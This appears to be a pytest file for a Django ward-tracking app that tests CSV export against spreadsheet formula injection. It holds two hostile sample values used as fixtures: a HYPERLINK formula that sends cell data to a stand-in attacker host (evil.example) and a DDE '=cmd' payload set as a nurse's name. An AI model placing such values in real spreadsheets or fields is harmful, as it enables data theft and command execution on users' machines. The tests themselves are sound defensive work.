"""A cell that a spreadsheet would run as a formula is written as text in every CSV; the page shows it as typed."""

import csv
import io

import pytest
from django.urls import reverse

from kypho_tracker.csv_export import safe_cell
from tests.reports.conftest import PERIOD, REPORT, june, table_rows

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("dangerous", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_cell_starting_like_a_formula_gets_a_leading_apostrophe(dangerous):
    assert safe_cell(dangerous) == "'" + dangerous


@pytest.mark.parametrize("harmless", ["Patient had a chest infection", "12.5", "—", "", "a=b"])
def test_other_cells_are_unchanged(harmless):
    assert safe_cell(harmless) == harmless


@pytest.fixture
def hostile(ward, nurse):
    nurse.first_name, nurse.last_name = "=cmd|' /C calc'!A0", "Nurse"
    nurse.save()
    ward.cancel(ward.book(june(10, 8)), FORMULA)
    done = ward.book(june(11, 8))
    ward.done(done, "Consent signed", by=nurse, at=june(9, 9))
    ward.complete(done)


def csv_rows(client, slug: str) -> list[list[str]]:
    response = client.get(reverse("reports:table-csv", args=[slug]), PERIOD)
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_a_formula_in_a_cancellation_reason_is_text_in_the_csv_and_as_typed_on_the_page(client, admin_user, hostile):
    client.force_login(admin_user)

    assert csv_rows(client, "cancellations")[1] == ["'" + FORMULA, "1"]
    assert table_rows(client.get(REPORT, PERIOD), "cancellations")[0]["Reason"] == FORMULA


def test_a_nurse_named_like_a_formula_is_text_in_the_csv(client, admin_user, hostile):
    client.force_login(admin_user)

    names = [row[0] for row in csv_rows(client, "nurses")[1:]]

    assert "'=cmd|' /C calc'!A0 Nurse" in names
